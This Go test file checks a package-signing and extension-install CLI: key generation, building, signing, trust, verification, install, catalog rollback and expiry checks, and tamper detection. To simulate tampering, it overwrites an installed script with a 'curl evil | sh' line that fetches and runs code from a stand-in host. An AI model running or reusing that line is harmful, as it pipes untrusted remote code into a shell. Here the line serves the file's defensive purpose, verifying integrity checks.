//go:build !windows

package main

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
)

type example struct {
	dir, publisher, typ, version, script string
}

var examples = []example{
	{"status-reporter", "Contoso.Monitoring", "StatusReporter", "1.0.0", "bin/status-reporter.sh"},
	{"script-runner", "Contoso.Scripts", "ScriptRunner", "2.1.0", "bin/script-runner.sh"},
}

func (e example) name() string { return e.publisher + "." + e.typ + "-" + e.version }

func mustRun(t *testing.T, want int, args ...string) string {
	t.Helper()
	out, errOut, code := runCLI(t, args...)
	if code != want {
		t.Fatalf("arcagent %s: exit %d, want %d\nstdout: %s\nstderr: %s", strings.Join(args, " "), code, want, out, errOut)
	}
	return out
}

// TestPackageFlowWithExamples runs the README flow on both example
// extensions: keygen, build, sign, trust add, verify, install, run, check.
func TestPackageFlowWithExamples(t *testing.T) {
	t.Setenv("ARCAGENT_KEY_PASSWORD", "correct horse battery staple")
	for _, ex := range examples {
		t.Run(ex.dir, func(t *testing.T) {
			work := t.TempDir()
			root := filepath.Join(work, "root")
			key := filepath.Join(work, "contoso")
			dist := filepath.Join(work, "dist")
			src := filepath.Join("..", "..", "examples", "extensions", ex.dir)
			pkg := filepath.Join(dist, ex.name()+".zip")
			exp := []string{"--publisher", ex.publisher, "--type", ex.typ, "--version", ex.version}

			mustRun(t, 0, "package", "keygen", "--out", key, "--algorithm", "ed25519")
			if data, _ := os.ReadFile(key + ".key"); !strings.Contains(string(data), "ENCRYPTED") {
				t.Fatal("private key not encrypted although ARCAGENT_KEY_PASSWORD is set")
			}
			mustRun(t, 2, "package", "keygen", "--out", key) // refuses to overwrite
			out := mustRun(t, 0, append([]string{"package", "build", src, "--out", dist}, exp...)...)
			if !strings.Contains(out, "sha256: ") {
				t.Fatalf("build output %q", out)
			}
			first, _ := os.ReadFile(pkg)
			mustRun(t, 0, append([]string{"package", "build", src, "--out", dist}, exp...)...)
			if second, _ := os.ReadFile(pkg); string(first) != string(second) {
				t.Fatal("rebuilding gave different bytes")
			}
			mustRun(t, 0, "package", "sign", pkg, "--key", key+".key")
			mustRun(t, 0, "--root", root, "trust", "add", "contoso", "--key", key+".pub", "--publisher", ex.publisher)
			out = mustRun(t, 0, append([]string{"--root", root, "package", "verify", pkg}, exp...)...)
			if !strings.HasPrefix(out, "VALID: "+ex.name()+" signed by contoso") {
				t.Fatalf("verify output %q", out)
			}
			mustRun(t, 1, "--root", root, "package", "verify", pkg, "--publisher", ex.publisher, "--type", ex.typ, "--version", "9.9.9")
			mustRun(t, 0, "package", "verify", pkg, "--key", key+".pub")

			mustRun(t, 0, append([]string{"--root", root, "package", "install", pkg}, exp...)...)
			mustRun(t, 2, append([]string{"--root", root, "package", "install", pkg}, exp...)...) // already installed
			mustRun(t, 0, "--root", root, "package", "check", ex.name())
			installed := filepath.Join(root, "var/lib/waagent", ex.name())

			// Run the installed handler as the extension manager would.
			env := `[{"version":1.0,"handlerEnvironment":{"logFolder":"` + filepath.Join(work, "log") + `","configFolder":"` + filepath.Join(installed, "config") + `","statusFolder":"` + filepath.Join(installed, "status") + `"}}]`
			os.WriteFile(filepath.Join(installed, "HandlerEnvironment.json"), []byte(env), 0o644)
			os.MkdirAll(filepath.Join(installed, "config"), 0o755)
			os.WriteFile(filepath.Join(installed, "config", "0.settings"), []byte(`{"runtimeSettings":[{"handlerSettings":{"publicSettings":{"commandToExecute":"echo ran-by-script-runner"}}}]}`), 0o600)
			cmdOut, err := exec.Command(filepath.Join(installed, ex.script), "enable").CombinedOutput()
			if err != nil {
				t.Fatalf("%s enable: %v\n%s", ex.script, err, cmdOut)
			}
			var status []struct {
				Status struct {
					Operation, Status string
					FormattedMessage  struct{ Message string }
				}
			}
			data, err := os.ReadFile(filepath.Join(installed, "status", "0.status"))
			if err != nil || json.Unmarshal(data, &status) != nil || len(status) != 1 || status[0].Status.Status != "success" || status[0].Status.Operation != "Enable" {
				t.Fatalf("status file %s (%v)", data, err)
			}
			if ex.dir == "script-runner" && !strings.Contains(status[0].Status.FormattedMessage.Message, "ran-by-script-runner") {
				t.Fatalf("script output missing from status: %s", data)
			}
			// Runtime files do not count as tampering; a changed script does.
			mustRun(t, 0, "--root", root, "package", "check", installed)
			os.WriteFile(filepath.Join(installed, ex.script), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755)
			out = mustRun(t, 1, "--root", root, "package", "check", installed)
			if !strings.Contains(out, "TAMPERED") || !strings.Contains(out, ex.script) {
				t.Fatalf("check output %q", out)
			}
			mustRun(t, 1, "--root", root, "package", "check", "--tree-only", installed)
			out = mustRun(t, 1, "--root", root, "-j", "package", "check", installed)
			var v struct {
				Valid   bool
				Code    string
				Changes []struct{ Path, Kind string }
			}
			if json.Unmarshal([]byte(out), &v) != nil || v.Valid || v.Code != "ARC0117" || len(v.Changes) != 1 || v.Changes[0].Kind != "changed" {
				t.Fatalf("check -j %s", out)
			}
			// Reinstalling with --replace restores the tree.
			mustRun(t, 0, append([]string{"--root", root, "package", "install", pkg, "--replace"}, exp...)...)
			mustRun(t, 0, "--root", root, "package", "check", ex.name())
			// Once the key is no longer trusted, the installed extension is not either.
			mustRun(t, 0, "--root", root, "trust", "remove", "contoso")
			mustRun(t, 1, "--root", root, "package", "check", ex.name())
		})
	}
}

// signedFixture builds and signs the status reporter; it returns the
// package path, the key base path and the root.
func signedFixture(t *testing.T) (pkg, key, root string) {
	t.Helper()
	t.Setenv("ARCAGENT_KEY_PASSWORD", "")
	work := t.TempDir()
	root = filepath.Join(work, "root")
	key = filepath.Join(work, "k")
	ex := examples[0]
	mustRun(t, 0, "package", "keygen", "--out", key)
	mustRun(t, 0, "package", "build", filepath.Join("..", "..", "examples", "extensions", ex.dir), "--out", work, "--publisher", ex.publisher, "--type", ex.typ, "--version", ex.version)
	pkg = filepath.Join(work, ex.name()+".zip")
	mustRun(t, 0, "package", "sign", pkg, "--key", key+".key")
	mustRun(t, 0, "--root", root, "trust", "add", "k", "--key", key+".pub", "--publisher", ex.publisher)
	return pkg, key, root
}

func TestPackageVerifyExitCodes(t *testing.T) {
	ex := examples[0]
	exp := []string{"--publisher", ex.publisher, "--type", ex.typ, "--version", ex.version}
	tests := []struct {
		name  string
		setup func(t *testing.T, pkg, key, root string) []string
		want  int
		code  string
	}{
		{"valid", func(t *testing.T, pkg, key, root string) []string { return []string{pkg} }, 0, ""},
		{"no argument", func(t *testing.T, pkg, key, root string) []string { return nil }, 2, "ARC0001"},
		{"both --key and --trust", func(t *testing.T, pkg, key, root string) []string {
			return []string{pkg, "--key", key + ".pub", "--trust", root}
		}, 2, "ARC0001"},
		{"missing package", func(t *testing.T, pkg, key, root string) []string { return []string{pkg + ".nope"} }, 2, "ARC0121"},
		{"missing signature", func(t *testing.T, pkg, key, root string) []string {
			os.Remove(pkg + ".sig.json")
			return []string{pkg}
		}, 2, "ARC0121"},
		{"one byte changed", func(t *testing.T, pkg, key, root string) []string {
			data, _ := os.ReadFile(pkg)
			data[len(data)-30] ^= 1
			os.WriteFile(pkg, data, 0o644)
			return []string{pkg}
		}, 1, "ARC0103"},
		{"truncated envelope", func(t *testing.T, pkg, key, root string) []string {
			data, _ := os.ReadFile(pkg + ".sig.json")
			os.WriteFile(pkg+".sig.json", data[:len(data)-10], 0o644)
			return []string{pkg}
		}, 1, "ARC0104"},
		{"untrusted key", func(t *testing.T, pkg, key, root string) []string {
			other := filepath.Join(t.TempDir(), "other")
			mustRun(t, 0, "package", "keygen", "--out", other)
			mustRun(t, 0, "package", "sign", pkg, "--key", other+".key")
			return []string{pkg}
		}, 1, "ARC0100"},
		{"key not allowed for publisher", func(t *testing.T, pkg, key, root string) []string {
			mustRun(t, 0, "package", "sign", pkg, "--key", key+".key", "--publisher", "Fabrikam")
			return []string{pkg, "--publisher", "Fabrikam"}
		}, 1, "ARC0101"},
		{"other version requested", func(t *testing.T, pkg, key, root string) []string {
			return []string{pkg, "--version", "1.0.1"}
		}, 1, "ARC0102"},
		{"insecure trust store", func(t *testing.T, pkg, key, root string) []string {
			os.Chmod(filepath.Join(root, "var/opt/azcmagent/trust"), 0o777)
			return []string{pkg}
		}, 3, "ARC0106"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			pkg, key, root := signedFixture(t)
			args := tc.setup(t, pkg, key, root)
			full := append([]string{"--root", root, "package", "verify"}, args...)
			if len(args) > 0 && !contains(args, "--publisher") && !contains(args, "--version") {
				full = append(full, exp...)
			}
			out, errOut, code := runCLI(t, full...)
			if code != tc.want || !strings.Contains(out+errOut, tc.code) {
				t.Fatalf("exit %d (want %d), code %s not in\nstdout: %s\nstderr: %s", code, tc.want, tc.code, out, errOut)
			}
		})
	}
}

func TestPackageVerifyJSON(t *testing.T) {
	pkg, _, root := signedFixture(t)
	data, _ := os.ReadFile(pkg)
	data[100] ^= 1
	os.WriteFile(pkg, data, 0o644)
	out, _, code := runCLI(t, "--root", root, "-j", "package", "verify", pkg)
	var v map[string]any
	if code != 1 || json.Unmarshal([]byte(out), &v) != nil || v["valid"] != false || v["code"] != "ARC0103" || v["remedy"] == "" {
		t.Fatalf("exit %d, output %s", code, out)
	}
}

func TestPackageSignNeedsPassword(t *testing.T) {
	work := t.TempDir()
	t.Setenv("ARCAGENT_KEY_PASSWORD", "pw1")
	mustRun(t, 0, "package", "keygen", "--out", filepath.Join(work, "k"))
	ex := examples[0]
	mustRun(t, 0, "package", "build", filepath.Join("..", "..", "examples", "extensions", ex.dir), "--out", work, "--publisher", ex.publisher, "--type", ex.typ, "--version", ex.version)
	pkg := filepath.Join(work, ex.name()+".zip")
	for _, tc := range []struct {
		password string
		want     int
	}{{"", 2}, {"Xq7-not-it", 2}, {"pw1", 0}} {
		t.Setenv("ARCAGENT_KEY_PASSWORD", tc.password)
		out, errOut, code := runCLI(t, "package", "sign", pkg, "--key", filepath.Join(work, "k.key"))
		if code != tc.want {
			t.Fatalf("password %q: exit %d\n%s%s", tc.password, code, out, errOut)
		}
		if tc.password != "" && strings.Contains(out+errOut, tc.password) {
			t.Fatal("passphrase printed")
		}
	}
}

func TestPackageBuildErrors(t *testing.T) {
	work := t.TempDir()
	os.WriteFile(filepath.Join(work, "HandlerManifest.json"), []byte(`[{"version":1.0,"handlerManifest":{"installCommand":"bin/x.sh"}}]`), 0o644)
	for _, tc := range []struct {
		args []string
		code string
	}{
		{[]string{"package", "build", work, "--publisher", "P", "--type", "T"}, "ARC0001"},
		{[]string{"package", "build", work, "--publisher", "P", "--type", "T", "--version", "1.0", "--out", work}, "ARC0111"},
		{[]string{"package", "build", work, "--publisher", "P", "--type", "T-x", "--version", "1.0", "--out", work}, "ARC0112"},
	} {
		_, errOut, code := runCLI(t, tc.args...)
		if code != 2 || !strings.Contains(errOut, tc.code) {
			t.Errorf("%v: exit %d, stderr %s", tc.args, code, errOut)
		}
	}
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

func TestPackageCatalog(t *testing.T) {
	t.Setenv("ARCAGENT_KEY_PASSWORD", "")
	work := t.TempDir()
	root := filepath.Join(work, "root")
	for _, k := range []string{"r1", "r2", "r3"} {
		mustRun(t, 0, "package", "keygen", "--out", filepath.Join(work, k))
	}
	mustRun(t, 0, "--root", root, "trust", "add", "r1", "--key", filepath.Join(work, "r1.pub"), "--catalog", "extensions")
	mustRun(t, 0, "--root", root, "trust", "add", "r2", "--key", filepath.Join(work, "r2.pub"), "--catalog", "extensions")
	mustRun(t, 0, "--root", root, "trust", "add", "r3", "--key", filepath.Join(work, "r3.pub"), "--publisher", "Contoso")
	catalog := func(name string, version int, expires string, keys ...string) string {
		p := filepath.Join(work, name+".json")
		doc := `{"name":"extensions","version":` + strconv.Itoa(version) + `,"expires":"` + expires + `","entries":[{"name":"Contoso.Monitoring.StatusReporter","version":"1.0.0"}]}`
		os.WriteFile(p, []byte(doc), 0o644)
		args := []string{"package", "catalog", "sign", p}
		for _, k := range keys {
			args = append(args, "--key", filepath.Join(work, k+".key"))
		}
		mustRun(t, 0, args...)
		return p + ".sig.json"
	}
	future, past := "2099-01-01T00:00:00Z", "2001-01-01T00:00:00Z"
	tests := []struct {
		name      string
		env       string
		threshold string
		want      int
		code      string
	}{
		{"valid 2 of 2", catalog("v5", 5, future, "r1", "r2"), "2", 0, "VALID"},
		{"rollback", catalog("v4", 4, future, "r1", "r2"), "2", 1, "ARC0113"},
		{"freeze", catalog("v6", 6, past, "r1", "r2"), "2", 1, "ARC0114"},
		{"threshold not met", catalog("v7", 7, future, "r1"), "2", 1, "ARC0115"},
		{"key not trusted for catalogs", catalog("v8", 8, future, "r3"), "1", 1, "ARC0115"},
		{"newer accepted", catalog("v9", 9, future, "r2"), "1", 0, "VALID"},
		{"older than the newest refused", catalog("v7b", 7, future, "r1", "r2"), "2", 1, "ARC0113"},
	}
	for _, tc := range tests {
		out, errOut, code := runCLI(t, "--root", root, "package", "catalog", "verify", tc.env, "--name", "extensions", "--threshold", tc.threshold)
		if code != tc.want || !strings.Contains(out+errOut, tc.code) {
			t.Fatalf("%s: exit %d (want %d)\nstdout %s\nstderr %s", tc.name, code, tc.want, out, errOut)
		}
	}
	mustRun(t, 2, "--root", root, "package", "catalog", "verify", tests[0].env)
}

// TestErrorOutputFormat: the CLI prints "error: ARCxxxx: message" once and
// then what to do, for errcode errors (signing) and for another package's
// coded error type (releases), whose Error() no longer carries the code.
func TestErrorOutputFormat(t *testing.T) {
	dir := t.TempDir()
	tests := []struct {
		name string
		args []string
		code string
	}{
		{"signing", []string{"package", "verify", filepath.Join(dir, "Contoso.X-1.0.zip")}, "ARC0121"},
		{"releases", []string{"fleet", "currency", "--inventory", filepath.Join(dir, "none.json"), "--github-repo", "arc/agent", "--github-url", "http://127.0.0.1:1/"}, "ARC0310"},
		{"usage", []string{"package", "verify"}, "ARC0001"},
	}
	line := regexp.MustCompile(`^error: (ARC\d{4}): \S`)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, stderr, _ := runCLI(t, append([]string{"--root", dir}, tt.args...)...)
			m := line.FindStringSubmatch(stderr)
			if m == nil || m[1] != tt.code || strings.Count(stderr, tt.code) != 1 || !strings.Contains(stderr, "\nwhat to do: ") {
				t.Fatalf("stderr %q: want one \"error: %s: message\" line and a remedy", stderr, tt.code)
			}
		})
	}
}
